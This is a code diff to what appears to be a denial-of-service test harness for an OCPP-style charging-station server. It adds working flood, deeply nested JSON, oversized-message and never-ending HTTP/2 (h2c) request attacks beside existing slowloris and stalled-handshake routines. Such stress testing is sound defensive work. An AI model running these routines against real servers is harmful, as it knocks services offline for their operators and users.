@@ -16,6 +16,9 @@ const ATTACKS: Record<string, (target: Target, amount: number) => Promise<Done>>
   fragments,
   deaf,
   flood,
+  deep,
+  large,
+  h2c,
   slowloris,
   idle,
   bodies,
@@ -65,6 +68,26 @@ async function deaf(target: Target): Promise<Done> {
 
 /** Heartbeats as fast as they go, answers read. */
 async function flood(target: Target): Promise<Done> {
+  const batches = await repeat(join(Array.from({ length: 200 }, () => HEARTBEAT)), target);
+  return { messages_taken: 200 * batches };
+}
+
+/** Messages just below the greatest size that nest as deeply as they can. */
+async function deep(target: Target, kib: number): Promise<Done> {
+  const message = `[2,"deep","DataTransfer",{"vendorId":"V","data":${"[".repeat(kib * 512)}${
+    "]".repeat(kib * 512)
+  }}]`;
+  return { messages_taken: await repeat(frameOf(message), target) };
+}
+
+/** Messages just below the greatest size whose long word looks like the beginning of a URL with a password. */
+async function large(target: Target, kib: number): Promise<Done> {
+  const message = `[2,"large","DataTransfer",{"vendorId":"V","data":"${"x".repeat(kib * 1024 - 100)}://"}]`;
+  return { messages_taken: await repeat(frameOf(message), target) };
+}
+
+/** Sends a batch over four connections again and again, answers read. Returns how often it was taken. */
+async function repeat(batch: Uint8Array, target: Target): Promise<number> {
   let sent = 0;
   await Promise.all(Array.from({ length: 4 }, async (_, n) => {
     const connection = await RawSocket.connect(`EVIL-H${n}`, target);
@@ -72,17 +95,48 @@ async function flood(target: Target): Promise<Done> {
     const timer = setTimeout(() => connection.close(), LASTS_MS);
     try {
       await connection.write(frameOf(BOOT));
-      const batch = join(Array.from({ length: 200 }, () => HEARTBEAT));
-      for (;;) {
-        await connection.write(batch);
-        sent += 200;
-      }
+      for (;; sent++) await connection.write(batch);
     } catch { /* ended */ }
     clearTimeout(timer);
     connection.close();
     await reading;
   }));
-  return { messages_taken: sent };
+  return sent;
+}
+
+/** HTTP/2 without TLS (RFC 9113): a hundred requests on each connection whose bodies never end. */
+async function h2c(target: Target, amount: number): Promise<Done> {
+  const streams = Array.from({ length: 100 }, (_, n) => 2 * n + 1);
+  const opening = join([
+    new TextEncoder().encode("PRI * HTTP/2.0\r\n\r\nSM\r\n\r\n"),
+    http2Frame(HTTP2.settings, 0),
+    ...streams.map((stream) => http2Frame(HTTP2.headers, stream, LOGIN_HEADERS)),
+    ...streams.map((stream) => http2Frame(HTTP2.data, stream, new Uint8Array(600).fill(120))),
+  ]);
+  await holdBodies(target, amount, async (connection) => {
+    await connection.write(opening);
+    await within(LASTS_MS, connection.ended());
+    return 0;
+  });
+  return { requests: amount * streams.length };
+}
+
+/** Types of frames. */
+const HTTP2 = { data: 0, headers: 1, settings: 4 };
+const END_HEADERS = 4;
+/** `:method POST`, `:scheme http`, `:path /login`, `:authority 127.0.0.1`, without Huffman's code (RFC 7541). */
+const LOGIN_HEADERS = join([
+  Uint8Array.of(0x83, 0x86, 0x04, 6),
+  new TextEncoder().encode("/login"),
+  Uint8Array.of(0x01, 9),
+  new TextEncoder().encode("127.0.0.1"),
+]);
+
+function http2Frame(type: number, stream: number, payload: Uint8Array = new Uint8Array(0)): Uint8Array {
+  const { length } = payload;
+  const flags = type === HTTP2.headers ? END_HEADERS : 0;
+  const head = [length >> 16, length >> 8 & 255, length & 255, type, flags, 0, 0, stream >> 8, stream & 255];
+  return join([Uint8Array.from(head), payload]);
 }
 
 /** Handshakes that never end: silent ones, and headers byte by byte. */
